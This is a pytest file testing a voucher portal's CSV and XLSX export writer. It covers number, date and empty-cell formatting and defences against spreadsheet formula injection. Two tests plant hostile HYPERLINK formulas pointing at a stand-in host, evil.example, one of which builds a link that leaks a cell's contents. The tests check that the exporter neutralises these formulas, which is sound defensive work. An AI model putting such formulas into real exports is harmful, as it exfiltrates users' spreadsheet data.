"""The generic writer (portal/exports.py): what every export shares."""

import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from portal import exports
from portal.exports import BOOLEAN, DATE, DATETIME, MONEY, Column, Export
from tests.exports.conftest import body_of, csv_rows
from vouchers.models import Enterprise

pytestmark = pytest.mark.django_db


def _export(queryset, columns):
    return Export(name="test", queryset=queryset, columns=columns, title="Test")


def test_csv_money_times_and_booleans(demo):
    voucher = demo["voucher"]
    from vouchers.models import Voucher

    queryset = Voucher.objects.filter(pk=voucher.pk)
    columns = [
        Column("Face", "face_value", MONEY),
        Column("Issued", "issued_at", DATETIME),
        Column("Cross", "cross_region", BOOLEAN),
    ]
    rows = csv_rows(exports.csv_response(_export(queryset, columns)))
    face, issued, cross = rows[1]
    assert face == f"{voucher.face_value:.2f}" and "," not in face
    from django.utils import timezone

    assert issued == timezone.localtime(voucher.issued_at).strftime("%Y-%m-%d %H:%M")
    assert cross == "Yes"


def test_text_that_would_run_as_a_formula_is_neutralised(demo):
    enterprise = demo["users"]["enterprise-jiangnan"].enterprise
    Enterprise.objects.filter(pk=enterprise.pk).update(
        name='=HYPERLINK("http://evil.example","x")', industry="-2+3\x07"
    )
    queryset = Enterprise.objects.filter(pk=enterprise.pk)
    columns = [Column("Name", "name"), Column("Industry", "industry")]
    rows = csv_rows(exports.csv_response(_export(queryset, columns)))
    assert rows[1][0] == '\'=HYPERLINK("http://evil.example","x")'
    assert rows[1][1].startswith("'-2+3")
    buffer = io.BytesIO()
    exports.write_xlsx(_export(queryset, columns), buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
    assert sheet["A2"].data_type == "s" and sheet["A2"].value.startswith("'=")
    assert sheet["B2"].value == "'-2+3"  # the control character is dropped, not an error


def test_a_control_character_before_a_formula_does_not_unguard_it_in_xlsx(demo):
    """The control character was dropped after the apostrophe was decided: "\x01=..." became
    a live formula in the workbook."""
    enterprise = demo["users"]["enterprise-jiangnan"].enterprise
    Enterprise.objects.filter(pk=enterprise.pk).update(
        industry='\x01=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
    )
    queryset = Enterprise.objects.filter(pk=enterprise.pk)
    buffer = io.BytesIO()
    exports.write_xlsx(_export(queryset, [Column("Industry", "industry")]), buffer)
    cell = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]["A2"]
    assert cell.data_type == "s" and cell.value.startswith("'=HYPERLINK")


def test_xlsx_keeps_dates_and_local_times(demo):
    from vouchers.models import Voucher

    voucher = demo["voucher"]
    Voucher.objects.filter(pk=voucher.pk).update(
        issued_at=datetime(2026, 1, 31, 17, 30, tzinfo=UTC)
    )
    queryset = Voucher.objects.filter(pk=voucher.pk)
    columns = [Column("Issued", "issued_at", DATETIME), Column("Face", "face_value", MONEY)]
    buffer = io.BytesIO()
    assert exports.write_xlsx(_export(queryset, columns), buffer) == 1
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
    assert sheet["A2"].value == datetime(2026, 2, 1, 1, 30)  # Asia/Shanghai
    assert sheet["A2"].number_format == "yyyy-mm-dd hh:mm"
    assert Decimal(str(sheet["B2"].value)) == voucher.face_value
    assert sheet.freeze_panes == "A2"


def test_empty_values_are_empty_cells(demo):
    from vouchers.models import VoucherApplication

    application = VoucherApplication.objects.get()
    VoucherApplication.objects.filter(pk=application.pk).update(decided_at=None)
    queryset = VoucherApplication.objects.filter(pk=application.pk)
    columns = [
        Column("Decided", "decided_at", DATETIME),
        Column("Category", "service_category__name"),
        Column("Valid", "decided_at", DATE),
    ]
    response = exports.csv_response(_export(queryset, columns))
    assert body_of(response).decode("utf-8-sig").splitlines()[1] == ",,"
